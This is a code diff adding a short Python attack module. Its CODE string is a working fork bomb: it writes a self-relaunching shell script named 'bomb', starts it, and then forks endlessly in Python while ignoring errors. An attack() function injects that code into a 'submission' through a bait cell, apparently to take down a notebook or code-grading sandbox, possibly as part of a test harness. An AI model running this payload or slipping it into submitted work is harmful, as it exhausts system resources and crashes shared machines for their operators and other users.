@@ -1,0 +1,17 @@
+"""Forks as fast as it can, in the shell and in Python, each child again, without a pause."""
+
+CODE = r"""
+import os, subprocess
+
+open("bomb", "w").write("sh bomb & sh bomb & sh bomb &\nsh bomb")
+subprocess.Popen(["sh", "bomb"])
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
+"""
+
+
+def attack(submission):
+    submission.add(submission.bait.cell(CODE))
